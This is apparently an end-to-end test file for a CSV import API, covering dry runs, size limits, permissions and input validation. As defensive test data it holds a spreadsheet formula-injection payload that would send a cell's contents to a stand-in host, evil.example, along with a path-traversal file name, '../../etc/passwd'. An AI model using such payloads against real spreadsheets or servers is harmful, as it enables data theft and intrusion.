"""/api/imports over HTTP: a CSV streamed as the request body and loaded as the caller, a
dry run that lists every bad row and loads nothing, uploads over the size limit refused
with nothing loaded, formula-like cells stored as the text they are, and who may."""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator
from datetime import UTC, datetime

from application.ingest.schemas import IngestKind
from tests.builders import unique_importer_number
from tests.e2e.http.analysis_data import csv_bytes, notifications, setup_app
from tests.e2e.http.conftest import Api

CSV = {"Content-Type": "text/csv"}
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


def _register_rows(count: int, **first: str) -> list[list[str]]:
    rows = [[unique_importer_number(), f"Importer {i} Ltd", "11", "64", "2020-01-15"]
            for i in range(count)]
    if first:
        rows[0][1] = first.get("legal_name", rows[0][1])
    return rows


def test_an_analyst_loads_a_register_and_the_batches_are_listed(api: Api) -> None:
    analyst = api.as_user("analyst.national")
    rows = _register_rows(3, legal_name=FORMULA)
    body = csv_bytes(IngestKind.ACCOUNTS, rows)
    response = analyst.post("/api/imports/accounts?file_name=register-2026.csv",
                            content=body, headers=CSV)
    assert response.status_code == 201, response.text
    report = response.json()
    assert (report["status"], report["rows_read"], report["rows_loaded"]) == ("loaded", 3, 3)
    assert report["file_name"] == "register-2026.csv"
    assert report["errors"] == []
    assert report["errors_total"] == 0
    again = analyst.post("/api/imports/accounts?file_name=again.csv", content=body,
                         headers=CSV)
    assert again.status_code == 200
    assert again.json()["status"] == "already_imported"
    listed = api.as_user("officer11").get("/api/imports").json()["items"]
    assert [(b["kind"], b["file_name"], b["actor"], b["rows_loaded"]) for b in listed] == [
        ("accounts", "register-2026.csv", "user:analyst.national", 3)]
    assert api.as_user("auditor").get("/api/imports?kind=trade").json()["items"] == []
    reader = setup_app(api.settings)
    try:
        account = reader.get_importer(rows[0][0])
        assert account.legal_name == FORMULA  # the cell as it was: text, never evaluated
        events = list(reader.events.get(account.id))
        assert events[0].actor == "user:analyst.national"  # type: ignore[attr-defined]
    finally:
        reader.close()


def test_a_district_analyst_loads_trade_of_registered_importers(api: Api) -> None:
    month = datetime.now(UTC).strftime("%Y-%m")  # the server's clock: UTC
    rows = [[api.importer11, month, 3, 5, "1000.00", "50.00", "64", "VN"],
            [api.importer12, month, 2, 2, "500.00", "25.00", "64", "CN"]]
    response = api.as_user("analyst11").post("/api/imports/trade",
                                             content=csv_bytes(IngestKind.TRADE, rows),
                                             headers={"Content-Type": "text/csv; charset=utf-8"})
    assert response.status_code == 201, response.text
    assert response.json()["rows_loaded"] == 2
    assert response.json()["file_name"] == "trade.csv"


def test_a_dry_run_lists_every_bad_row_and_loads_nothing(api: Api) -> None:
    analyst = api.as_user("analyst.national")
    good = _register_rows(2)
    rows = [good[0], [unique_importer_number(), "Bad District Ltd", "99", "64", "2020-01-15"],
            [unique_importer_number(), "Future Ltd", "11", "64", "2999-01-01"],
            ["12-3", "Short", "11"], good[1]]
    body = csv_bytes(IngestKind.ACCOUNTS, rows)
    before = notifications(api.ledger)
    dry = analyst.post("/api/imports/accounts?dry_run=true", content=body, headers=CSV)
    assert dry.status_code == 200, dry.text
    report = dry.json()
    assert (report["status"], report["rows_loaded"], report["rows_rejected"]) == (
        "validated", 0, 3)
    found = {(e["row"], e["column"]) for e in report["errors"]}
    assert found == {(3, "district"), (4, "registered_on"), (5, "row")}
    assert all(e["reason"] for e in report["errors"])
    refused = analyst.post("/api/imports/accounts", content=body, headers=CSV)
    assert refused.status_code == 422, refused.text  # nothing loaded: refused, every row named
    assert refused.headers["content-type"].startswith("application/problem+json")
    problem = refused.json()
    assert problem["type"] == "https://compliance-ledger.example/problems/invalid-input"
    assert problem["errors_total"] == 3
    assert problem["errors"] == report["errors"]  # the same rows the dry run (and CLI) list
    assert "skip_invalid" in problem["detail"]
    assert notifications(api.ledger) == before
    assert analyst.get("/api/imports").json()["items"] == []
    partial = analyst.post("/api/imports/accounts?skip_invalid=true", content=body,
                           headers=CSV)
    assert partial.status_code == 201
    assert (partial.json()["rows_loaded"], partial.json()["rows_rejected"]) == (2, 3)


def test_an_upload_over_the_limit_is_refused_and_loads_nothing(api: Api) -> None:
    services = api.app.state.services
    services.settings = dataclasses.replace(services.settings, max_upload_mb=1)
    analyst = api.as_user("analyst.national")
    rows = _register_rows(1)
    body = csv_bytes(IngestKind.ACCOUNTS, rows)
    big = body + b"\n" * (1024 * 1024)  # blank lines: a valid file, only too large
    before = notifications(api.ledger)
    announced = analyst.post("/api/imports/accounts", content=big, headers=CSV)
    assert announced.status_code == 413, announced.text
    assert announced.headers["content-type"].startswith("application/problem+json")
    assert "1 MiB" in announced.json()["detail"]

    def chunks() -> Iterator[bytes]:  # no Content-Length: counted as it streams
        yield body
        for _ in range(20):
            yield b"\n" * 65536

    streamed = analyst.post("/api/imports/accounts", content=chunks(), headers=CSV)
    assert streamed.status_code == 413, streamed.text
    assert notifications(api.ledger) == before
    assert analyst.get("/api/imports").json()["items"] == []
    small = analyst.post("/api/imports/accounts", content=body, headers=CSV)
    assert small.status_code == 201  # under the limit, the same file loads


def test_who_may_import_and_read_the_batches(api: Api) -> None:
    body = csv_bytes(IngestKind.ACCOUNTS, _register_rows(1))
    officer, rep = api.as_user("officer11"), api.as_user("rep11")  # logins: before counting
    before = notifications(api.ledger)
    refused = officer.post("/api/imports/accounts", content=body, headers=CSV)
    assert refused.status_code == 403
    assert refused.json()["type"].endswith("/forbidden")
    assert rep.post("/api/imports/accounts", content=body, headers=CSV).status_code == 403
    assert api.client.post("/api/imports/accounts", content=body,
                           headers=CSV).status_code == 401
    assert notifications(api.ledger) == before
    assert rep.get("/api/imports").status_code == 403
    assert api.as_user("officer12").get("/api/imports").status_code == 200


def test_bad_uploads_are_refused_naming_what_is_wrong(api: Api) -> None:
    analyst = api.as_user("analyst.national")
    body = csv_bytes(IngestKind.ACCOUNTS, _register_rows(1))
    before = notifications(api.ledger)
    as_json = analyst.post("/api/imports/accounts", content=body,
                           headers={"Content-Type": "application/json"})
    assert as_json.status_code == 415
    unknown = analyst.post("/api/imports/invoices", content=body, headers=CSV)
    assert unknown.status_code == 422
    assert [p["name"] for p in unknown.json()["invalid-params"]] == ["kind"]
    for name in ("../../etc/passwd", "a\x1bb.csv", "x" * 201, " "):
        response = analyst.post("/api/imports/accounts", params={"file_name": name},
                                content=body, headers=CSV)
        assert response.status_code == 422, name
        assert [p["name"] for p in response.json()["invalid-params"]] == ["file_name"]
    assert analyst.get("/api/imports?kind=bogus").status_code == 422
    header = analyst.post("/api/imports/trade", content=body, headers=CSV)
    assert header.status_code == 422
    assert [(e["row"], e["column"]) for e in header.json()["errors"]] == [(1, "header")]
    empty = analyst.post("/api/imports/samples", content=b"", headers=CSV)
    assert empty.status_code == 422
    assert empty.json()["errors_total"] >= 1
    assert notifications(api.ledger) == before
